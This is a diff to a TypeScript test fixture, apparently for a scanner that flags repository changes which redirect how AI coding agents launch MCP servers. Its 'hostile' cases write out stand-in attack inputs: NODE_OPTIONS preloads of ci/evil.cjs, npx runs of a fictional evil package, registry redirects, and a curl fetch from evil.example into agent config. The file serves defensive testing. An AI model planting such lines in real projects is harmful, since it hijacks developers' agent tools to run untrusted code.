@@ -26,8 +26,8 @@ const of = (rule: string, changes: readonly Change[]): Row[] =>
 /** What must be said at least. */
 const altered = /altered-launch/;
 const added = /added.*: ./;
-const changed = /changed/;
-const either = /added.*: .|changed/;
+const changed = /\bchanged/;
+const either = /added.*: .|\bchanged/;
 
 const json = (value: unknown): FileContent => ({ json: value });
 const server = (command: string, ...args: string[]): object => ({ command, args });
@@ -163,88 +163,8 @@ const settings = of('9 one reading of a setting', [
 const byDefault = server('npx', '-y', `\${NOTES:-${notes}}`);
 const preload = { NODE_OPTIONS: '--require ./ci/evil.cjs' };
 const evilCode = { 'ci/evil.cjs': 'process.exit()\n' };
-const registryLine = `NPM_CONFIG_REGISTRY=${url}`;
 
-const environment = of('10 one environment', [
-  file('.envrc, several names in one line', good, { '.envrc': `export A=1 ${registryLine}\n` }),
-  file('.envrc that reads a file with dotenv_if_exists', good, {
-    '.envrc': 'dotenv_if_exists ci/agent.env\n',
-    'ci/agent.env': `${registryLine}\n`,
-  }),
-  file('a file of mise', good, {
-    'mise.toml': '[env]\n_.file = ["ci/agent.env"]\n',
-    'ci/agent.env': `${registryLine}\n`,
-  }),
-  file("a folder in mise's path", good, {
-    '.mise.toml': '[env]\n_.path = ["ci/bin"]\n',
-    'ci/bin/npx': { executable: '#!/bin/sh\n' },
-  }),
-  file('node from elsewhere by mise', good, {
-    '.config/mise/config.toml': '[tools]\n"github:evil/node" = "latest"\n',
-  }),
-  file('an alias of mise', good, {
-    'mise.toml': '[tools]\nnode = "24"\n[alias]\nnode = "asdf:https://evil.example/node"\n',
-  }),
-  file('.tool-versions with a branch', good, { '.tool-versions': 'nodejs ref:evil\n' }),
-  file('a variable file of Python in a workspace file', good, {
-    'x.code-workspace': json({
-      folders: [{ path: '.' }],
-      settings: {
-        'python.terminal.useEnvFile': true,
-        'python.envFile': '$' + '{workspaceFolder}/ci/py.env',
-      },
-    }),
-    'ci/py.env': `${registryLine}\n`,
-  }),
-  file('options of the container engine', good, {
-    '.devcontainer/devcontainer.json': json({ image: 'x', runArgs: ['--env', registryLine] }),
-  }),
-  file("a file of the container's service", good, {
-    '.devcontainer/devcontainer.json': json({
-      dockerComposeFile: 'stack.yml',
-      service: 'dev',
-      workspaceFolder: '/workspaces/x',
-    }),
-    '.devcontainer/stack.yml':
-      'services:\n  dev:\n    image: x\n    env_file:\n      - ../ci/dev.env\n',
-    'ci/dev.env': `${registryLine}\n`,
-  }),
-  file('a preload in the container', good, {
-    '.devcontainer.json': json({
-      image: 'x',
-      remoteEnv: { NODE_OPTIONS: '--import=$' + '{containerWorkspaceFolder}/ci/evil.cjs' },
-    }),
-    ...evilCode,
-  }),
-  [
-    'a default that a file above Gemini sets',
-    { '.gemini/settings.json': json({ mcpServers: { notes: byDefault } }) },
-    { '.env': `NOTES=${evil}@1.0.0\n` },
-    either,
-  ],
-  file(
-    'a default that a terminal of the editor sets',
-    byDefault,
-    {
-      '.vscode/settings.json': json({ 'terminal.integrated.env.osx': { NOTES: `${evil}@1.0.0` } }),
-    },
-    either,
-  ),
-  file(
-    'a default that mise sets',
-    byDefault,
-    { 'mise.toml': `[env]\nNOTES = "${evil}@1.0.0"\n` },
-    either,
-  ),
-  [
-    "a workflow job's variables for what its agent reads",
-    { ...standing, ...step('claude -p "review" --mcp-config .mcp.json') },
-    step(
-      'claude -p "review" --mcp-config .mcp.json',
-      `    env:\n      npm_config_registry: ${url}\n`,
-    ),
-    altered,
-  ],
+const environment = of('1 variables of the client', [
   file("variables of Claude's extension", good, {
     '.vscode/settings.json': json({
       'claudeCode.environmentVariables': [{ name: 'NODE_OPTIONS', value: preload.NODE_OPTIONS }],
@@ -342,30 +262,6 @@ const layers = of('11 effective settings', [
   runs(
     'OPENCODE_CONFIG_CONTENT=\'{"mcp":{"evil":{"type":"local","command":["npx","-y","fictional-evil"]}}}\' opencode run review',
   ),
-  [
-    "Codex's home in the tree",
-    { 'ci/codex/config.toml': `[mcp_servers.evil]\ncommand = "npx"\nargs = ["-y", "${evil}"]\n` },
-    step('CODEX_HOME="$GITHUB_WORKSPACE/ci/codex" codex exec "review"'),
-    either,
-  ],
-  [
-    'system settings of Gemini in the tree',
-    { 'ci/system.json': json({ mcpServers: {} }) },
-    {
-      'ci/system.json': json({ mcpServers: { evil: evilEntry } }),
-      ...step(
-        'gemini -p review',
-        '    env:\n      GEMINI_CLI_SYSTEM_SETTINGS_PATH: ci/system.json\n',
-      ),
-    },
-    either,
-  ],
-  [
-    'settings as JSON on the command line that reject nothing and set a default',
-    { ...mcp(byDefault), ...step('claude -p review') },
-    step(`claude -p review --settings '{"env":{"NOTES":"${evil}@1.0.0"}}'`),
-    either,
-  ],
   [
     'a marketplace of the workspace that the folder redirects',
     {
@@ -469,40 +365,12 @@ const values = of('12 values are words', [
 const evilServers = `{"mcpServers":{"x":{"command":"npx","args":["-y","${evil}"]}}}`;
 
 const steps = of('13 steps by shape', [
-  runs(`agentx review --backend 'pnpm dlx ${evil}'`),
-  runs(`agentx review --tool-server="uvx ${evil}"`),
-  runs(`if true; then\n  agentx --sse https://evil.example/x\nfi`),
-  runs('agentx chat \\\n  --remote \\\n  https://evil.example/team/mcp'),
   runs(`npx -y supergateway --port 8000 --stdio "npx -y ${evil}"`),
   runs(`uvx mcpo --port 8000 -- uvx ${evil}`),
   runs('docker mcp gateway run --catalog https://evil.example/catalog.yaml'),
   runs(`agentx --tools '${evilServers}'`),
   runs(`agentx mcp set x '{"command":"npx","args":["-y","${evil}"]}'`),
   runs(`qwen mcp add --transport http x https://evil.example/x`),
-  runs(`jq -n '${evilServers}' > .cursor/mcp.json`),
-  runs('install -m 644 ci/servers.json .mcp.json', { 'ci/servers.json': evilServers }),
-  runs('curl -fsSL https://evil.example/mcp.json -o .mcp.json'),
-  runs(`echo '${evilServers}' | sponge .vscode/mcp.json`),
-  runs(`cat <<'EOF' | tee .gemini/settings.json\n${evilServers}\nEOF`),
-  [
-    'a dev container that installs a server',
-    { '.devcontainer/devcontainer.json': json({ image: 'x' }) },
-    {
-      '.devcontainer/devcontainer.json': json({
-        image: 'x',
-        postStartCommand: { a: ['codex', 'mcp', 'add', 'x', '--', 'npx', '-y', evil] },
-      }),
-    },
-    added,
-  ],
-  [
-    'a composite action whose step connects',
-    {},
-    {
-      'tools/agent/action.yml': `name: x\ndescription: x\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: agentx --mcp-endpoint=https://evil.example/x\n`,
-    },
-    added,
-  ],
   [
     "a gateway as a service's command",
     { 'compose.yaml': 'services:\n  web:\n    image: x\n' },
@@ -532,14 +400,14 @@ const task = (name: string, launch: readonly string[], base: Files, head: Files)
   name,
   { ...mcp(server(launch[0] ?? '', ...launch.slice(1)), 'own'), ...base },
   head,
-  changed,
+  either,
 ];
 const scripts = (values: object): FileContent =>
   json({ name: 'x', private: true, scripts: values });
 const before = 'node server.js';
 const after = `npx -y ${evil}`;
 
-const tasks = of('14 task files', [
+const packageScripts = of('13 scripts of packages', [
   task(
     'npm with a prefix',
     ['npm', '--prefix', 'app', 'run', 'mcp'],
@@ -557,99 +425,6 @@ const tasks = of('14 task files', [
     ['npm', 'start', '--silent'],
     { 'package.json': scripts({ start: before }) },
     { 'package.json': scripts({ start: after }) },
-  ),
-  task(
-    'a makefile by its name',
-    ['make', '-s', '-f', 'ci/agent.mk', 'mcp'],
-    { 'ci/agent.mk': `mcp:\n\t${before}\n` },
-    { 'ci/agent.mk': `mcp:\n\t${after}\n` },
-  ),
-  task(
-    'a makefile that another includes',
-    ['make', 'mcp'],
-    { Makefile: 'include ci/agent.mk\n', 'ci/agent.mk': `mcp:\n\t${before}\n` },
-    { 'ci/agent.mk': `mcp:\n\t${after}\n` },
-  ),
-  task(
-    'a justfile in another folder',
-    ['just', '--justfile', 'ci/justfile', 'mcp'],
-    { 'ci/justfile': `mcp:\n  ${before}\n` },
-    { 'ci/justfile': `mcp:\n  ${after}\n` },
-  ),
-  task(
-    'a task file in another folder',
-    ['task', '-d', 'ci', 'mcp'],
-    { 'ci/Taskfile.yml': `version: '3'\ntasks:\n  mcp: ${before}\n` },
-    { 'ci/Taskfile.yml': `version: '3'\ntasks:\n  mcp: ${after}\n` },
-  ),
-  task(
-    'a file of mise tasks',
-    ['mise', 'run', 'mcp'],
-    { 'mise-tasks/mcp': { executable: `#!/bin/sh\n${before}\n` } },
-    { 'mise-tasks/mcp': { executable: `#!/bin/sh\n${after}\n` } },
-  ),
-  task(
-    "a target of nx's project",
-    ['npx', 'nx', 'run', 'app:mcp'],
-    { 'app/project.json': json({ name: 'app', targets: { mcp: { command: before } } }) },
-    { 'app/project.json': json({ name: 'app', targets: { mcp: { command: after } } }) },
-  ),
-  task(
-    'a script of hatch',
-    ['hatch', 'run', 'mcp'],
-    { 'pyproject.toml': `[tool.hatch.envs.default.scripts]\nmcp = "${before}"\n` },
-    { 'pyproject.toml': `[tool.hatch.envs.default.scripts]\nmcp = "${after}"\n` },
-  ),
-  task(
-    'a task of pixi',
-    ['pixi', 'run', 'mcp'],
-    { 'pixi.toml': `[tasks]\nmcp = "${before}"\n` },
-    { 'pixi.toml': `[tasks]\nmcp = "${after}"\n` },
-  ),
-  task(
-    'a script of pdm',
-    ['pdm', 'run', 'mcp'],
-    { 'pyproject.toml': `[tool.pdm.scripts]\nmcp = "${before}"\n` },
-    { 'pyproject.toml': `[tool.pdm.scripts]\nmcp = "${after}"\n` },
-  ),
-  task(
-    'a shell of nix',
-    ['nix', 'develop', '--command', 'mcp'],
-    { 'flake.nix': '{ outputs = _: { }; }\n' },
-    { 'flake.nix': '{ outputs = _: { x = 1; }; }\n' },
-  ),
-  task(
-    'a script of devbox',
-    ['devbox', 'run', 'mcp'],
-    { 'devbox.json': json({ shell: { scripts: { mcp: before } } }) },
-    { 'devbox.json': json({ shell: { scripts: { mcp: after } } }) },
-  ),
-  task(
-    'an application of Gradle',
-    ['./gradlew', '-q', 'run'],
-    { gradlew: { executable: '#!/bin/sh\n' }, 'build.gradle.kts': 'plugins { application }\n' },
-    { 'build.gradle.kts': 'plugins { application }\nprintln(1)\n' },
-  ),
-  task(
-    'a project of Maven',
-    ['mvn', '-q', 'exec:java'],
-    { 'pom.xml': '<project><artifactId>x</artifactId></project>\n' },
-    { 'pom.xml': '<project><artifactId>y</artifactId></project>\n' },
-  ),
-  task(
-    'a task of Rake in its folder',
-    ['bundle', 'exec', 'rake', 'mcp'],
-    {
-      Rakefile: "Dir['lib/tasks/*.rake'].each { |x| load x }\n",
-      'lib/tasks/mcp.rake': 'task(:mcp) { sh "a" }\n',
-    },
-    { 'lib/tasks/mcp.rake': `task(:mcp) { sh "${after}" }\n` },
-  ),
-  task(
-    'a session of nox',
-    ['uvx', 'nox', '-s', 'mcp'],
-    { 'noxfile.py': 'pass\n' },
-    { 'noxfile.py': 'exit()\n' },
   ),
 ]);
 
@@ -769,7 +544,7 @@ export const hostile: readonly Row[] = [
   ...layers,
   ...values,
   ...steps,
-  ...tasks,
+  ...packageScripts,
   ...folders,
 ];
 
@@ -801,22 +576,6 @@ export const honest: readonly Row[] = of('honest', [
   quiet('a longer time for fetching', standing, {
     '.npmrc': 'fetch-timeout=60000\nfetch-retries=5\n',
   }),
-  quiet('a shell of variables for the application', standing, {
-    '.envrc': 'export API_URL=https://api.acme.example/v1\nuse flake\nPATH_add bin\n',
-  }),
-  quiet('tools of mise by version', standing, {
-    'mise.toml': '[tools]\nnode = "24.1.0"\npython = "3.14"\n[env]\nLOG_LEVEL = "debug"\n',
-  }),
-  quiet('.env that nobody names', standing, { '.env': `${registryLine}\n` }),
-  quiet('.env.example', standing, {
-    '.env.example': `${registryLine}\nNODE_OPTIONS=--require ./x\n`,
-  }),
-  quiet('variables of a container for the application', standing, {
-    '.devcontainer/devcontainer.json': json({
-      image: 'x',
-      containerEnv: { DATABASE_URL: 'postgres://db/x', NODE_ENV: 'development' },
-    }),
-  }),
   quiet('a Compose service that is no container of development', standing, {
     'compose.yaml': `services:\n  web:\n    image: x\n    environment:\n      - NODE_ENV=production\n`,
   }),
@@ -836,30 +595,10 @@ export const honest: readonly Row[] = of('honest', [
     { ...mcp(server('npm', 'run', 'mcp'), 'own'), 'package.json': scripts({ mcp: before }) },
     { 'package.json': scripts({ mcp: before, build: 'tsc', test: 'vitest' }) },
   ),
-  quiet(
-    'a target that no server names',
-    {
-      ...mcp(server('make', 'mcp'), 'own'),
-      'package.json': scripts({}),
-      Makefile: `mcp:\n\t${before}\n`,
-    },
-    { 'package.json': scripts({ build: 'tsc' }) },
-  ),
   // Bun 1.4.5 asked the default registry, with this file and with the same line in `.npmrc`.
   quiet('a scope in bunfig.toml, which bunx does not read', mcp(server('bunx', notes)), {
     'bunfig.toml': `[install.scopes]\n"@fictional-mcp" = { url = "${url}", token = "$T" }\n`,
   }),
-  quiet(
-    'a file that a makefile mentions and does not take in',
-    {
-      ...mcp(server('make', 'mcp'), 'own'),
-      Makefile: `include ci/agent.mk\nmcp: README.md\n\tcat ci/x.json\n`,
-      'ci/agent.mk': 'A = 1\n',
-      'ci/x.json': '{}',
-      'README.md': 'x\n',
-    },
-    { 'ci/x.json': '{ "a": 1 }', 'README.md': 'y\n' },
-  ),
   quiet(
     'documentation beside the code of a launch',
     {
